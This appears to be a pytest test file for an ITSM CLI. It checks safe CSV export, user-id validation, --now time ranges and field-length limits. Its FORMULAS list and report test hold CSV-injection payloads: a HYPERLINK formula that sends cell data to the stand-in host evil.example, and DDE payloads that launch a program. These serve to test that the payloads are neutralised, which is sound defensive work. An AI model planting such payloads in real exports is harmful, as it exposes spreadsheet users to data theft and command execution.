"""Input and output hardening of the CLI (issue #20, item 6): CSV that is safe to
open in a spreadsheet, user ids that are ids, and a ``--now`` the clock can use."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest

from _desk import Desk

sqlite_only = pytest.mark.parametrize("db_url", ["sqlite"], indirect=True)

FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "+SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"]


# --- CSV -----------------------------------------------------------------------------

@sqlite_only
def test_list_csv_neutralises_formulas(desk: Desk, itsm: Any) -> None:
    """A title is text from the reporter: in ``itsm list --csv`` a cell that
    begins with = + - @ must be text to a spreadsheet, not a formula (OWASP: a
    leading ' and double quotes)."""
    o = desk.org
    keys = [desk.new("incident", o.agent.id, f"2026-03-02 09:0{i}", reporter=o.reporter, title=title)["key"]
            for i, title in enumerate(FORMULAS)]
    text = itsm("list", "--csv", user=o.agent.id).stdout
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [r["key"] for r in rows] == keys
    assert [r["title"] for r in rows] == ["'" + t for t in FORMULAS]
    for title in FORMULAS:
        assert '"\'' + title.replace('"', '""') + '"' in text  # quoted, so no ; or , inside starts a cell
    for line in text.splitlines():
        for cell in next(csv.reader([line])):
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), line


def test_csv_fields_the_way_owasp_recommends() -> None:
    from engine.render import csv_field, to_csv

    assert csv_field("=1+2\";=1+2") == "\"'=1+2\"\";=1+2\""  # OWASP's own examples
    assert csv_field("=1+2'\" ;,=1+2") == "\"'=1+2'\"\" ;,=1+2\""
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert csv_field(start + "cmd") == f"\"'{start}cmd\""
    assert csv_field("a;=1+2") == '"a;=1+2"'  # ; separates cells in many locales
    assert csv_field("Printer, floor 3") == '"Printer, floor 3"'
    assert csv_field("wang.lei") == "wang.lei" and csv_field("") == "" and csv_field(None) == ""
    assert csv_field(-3) == "-3" and csv_field(-2.5) == "-2.5"  # numbers stay numbers
    assert csv_field("-3") == "\"'-3\""  # text that only looks like one does not
    cols = [("name", "Name", lambda r: r["name"]), ("n", "N", lambda r: r["n"]),
            ("ok", "OK", lambda r: r["ok"]), ("tags", "Tags", lambda r: r["tags"])]
    out = to_csv([{"name": "\t=cmd", "n": -1, "ok": True, "tags": ["-x", "y"]}], cols)
    assert out == "name,n,ok,tags\n\"'\t=cmd\",-1,yes,\"'-x, y\"\n"
    assert list(csv.reader(io.StringIO(out)))[1] == ["'\t=cmd", "-1", "yes", "'-x, y"]


def test_report_csv_neutralises_formulas() -> None:
    from engine.reports.render import to_csv

    doc = {"kpis": [{"id": "major", "tables": [{"id": "list", "columns": [{"id": "title"}, {"id": "n"}],
                                                  "rows": [{"title": "=cmd|' /C calc'!A0", "n": -1}]}]}]}
    assert to_csv(doc) == "kpi,table,row,column,value\nmajor,list,1,title,\"'=cmd|' /C calc'!A0\"\n" \
                          "major,list,1,n,-1\n"


# --- user ids -------------------------------------------------------------------------

BAD_ID = ("is not valid: use 1 to 64 letters (a-z, A-Z), digits, '.', '_' and '-', beginning with a "
          "letter or digit, e.g. wang.lei")


@sqlite_only
@pytest.mark.parametrize("pid", ["<b>x", "wang lei", "li.na@example.com", "_x", ".x", "x" * 65, "王磊",
                                 "a|b", "x\n", "[x](http://e.example)", "a*b*", ""])
def test_user_add_refuses_what_is_not_a_user_id(itsm: Any, pid: str) -> None:
    """A user id goes into listings, reports, messages and the journal: markup,
    spaces or an @ (which names an end user by e-mail) have no place in it."""
    itsm("db", "upgrade")  # the refusal writes nothing, so the list below needs the database made
    err = itsm.json("user", "add", pid, "--email", "x@example.com", expect=2)
    assert err == {"error": "usage", "message": f"user id {pid!r} {BAD_ID}", "exit_code": 2}
    assert itsm.json("user", "list") == []
    result = itsm("user", "add", pid, "--email", "x@example.com", expect=2)
    assert result.stderr == f"itsm: user id {pid!r} {BAD_ID}\n"


@sqlite_only
def test_system_is_reserved(itsm: Any) -> None:
    err = itsm.json("user", "add", "system", "--email", "s@example.com", expect=2)
    assert err["message"] == "user id 'system' is reserved for the engine's own actions"


@sqlite_only
def test_user_ids_that_are_ids_are_taken(itsm: Any) -> None:
    for i, pid in enumerate(["wang.lei", "p16.owner", "tang_yu", "A1-b", "7", "x" * 64]):
        assert itsm.json("user", "add", pid, "--email", f"u{i}@example.com")["id"] == pid


# --- --now -----------------------------------------------------------------------------

OUT_OF_RANGE = "is out of range: itsm computes with times from the year 1900 to 8999"


@sqlite_only
@pytest.mark.parametrize("now", ["0001-01-01T00:00:00+00:00", "9999-12-31T23:59:59+00:00",
                                 "0001-01-02T00:00:00+00:00", "9999-12-30T00:00:00+00:00",
                                 "9999-12-31T23:59:59-12:00", "1899-12-31T23:59:59+00:00",
                                 "9000-01-01T00:00:00+00:00", "1900-01-01T07:59:59+08:00"])
@pytest.mark.parametrize("command", [("list",), ("tick",), ("new", "incident", "--title", "Printer jams",
                                                             "--reporter", "li.na@example.com")])
def test_now_at_the_ends_of_time_is_a_usage_error(itsm: Any, org: Any, now: str,
                                                  command: tuple[str, ...]) -> None:
    """Years 1 and 9999 overflowed the clock's arithmetic: exit 3, an internal error."""
    result = itsm(*command, user=org.agent.id, now=now, expect=2)
    assert result.stderr == f"itsm: --now: {now!r} {OUT_OF_RANGE}\n"
    err = itsm.json(*command, user=org.agent.id, now=now, expect=2)
    assert err == {"error": "usage", "message": f"--now: {now!r} {OUT_OF_RANGE}", "exit_code": 2}


@sqlite_only
def test_now_from_the_environment_is_checked_the_same(itsm: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("ITSM_NOW", "0001-01-01T00:00:00+00:00")
    assert OUT_OF_RANGE in itsm("list", expect=2).stderr


@sqlite_only
@pytest.mark.parametrize("now", ["1900-01-01T00:00:00+00:00", "8999-12-31T23:59:59+00:00",
                                 "2026-03-02T09:00:00+08:00"])
def test_now_within_the_range_works(itsm: Any, org: Any, now: str) -> None:
    key = itsm.json("new", "incident", "--title", "Printer jams", "--reporter", "li.na@example.com",
                    user=org.agent.id, now=now)["key"]
    itsm("tick", now=now)
    assert itsm.json("show", key, now=now)["state"] == "new"


# --- field values are bounded -----------------------------------------------------------

def test_a_field_value_past_its_bound_is_a_usage_error_and_writes_nothing(desk: Desk, itsm: Any) -> None:
    """What one action makes the index, the journal and the notifications carry is
    bounded: a short (string) field 2,000 characters (the title its column's 500), a
    long (text) one 100,000."""
    o = desk.org
    out = desk.new("incident", o.agent.id, "2026-03-02 09:00", reporter=o.reporter, title="x" * 501, expect=2)
    assert "at most 500 characters, not 501" in out["message"]
    key = desk.new("incident", o.agent.id, "2026-03-02 09:01", reporter=o.reporter, title="x" * 500,
                   description="d" * 100_000, reporter_phone="1" * 40)["key"]
    out = desk.new("incident", o.agent.id, "2026-03-02 09:02", reporter=o.reporter, title="phone",
                   reporter_phone="1" * 41, expect=2)
    assert "at most 40 characters" in out["message"]
    # an e-mail address: 254 characters, the reporter column's size (on PostgreSQL a
    # longer one was a database error)
    long_mail = "a@" + "b" * 248 + ".com"
    out = desk.new("incident", o.agent.id, "2026-03-02 09:03", reporter=long_mail + "x", title="mail", expect=2)
    assert out["message"] == "reporter: at most 254 characters, not 255", out
    out = desk.new("incident", o.agent.id, "2026-03-02 09:04", reporter=long_mail, title="mail")
    assert out["reporter"] == long_mail
    out = desk.do(key, "resolve", o.agent.id, "2026-03-02 09:05", solution="s" * 100_001, closure_code="solved",
                  service_restored=True, expect=2)
    assert "at most 100000 characters" in out["message"]
    assert [e["action"] for e in desk.history(key)] == ["create"]
    zh = itsm("--lang", "zh", "new", "incident", "--title", "x" * 501, "--reporter", o.reporter,
              user=o.agent.id, expect=2).stderr
    assert "最多 500 个字符，而不是 501 个" in zh
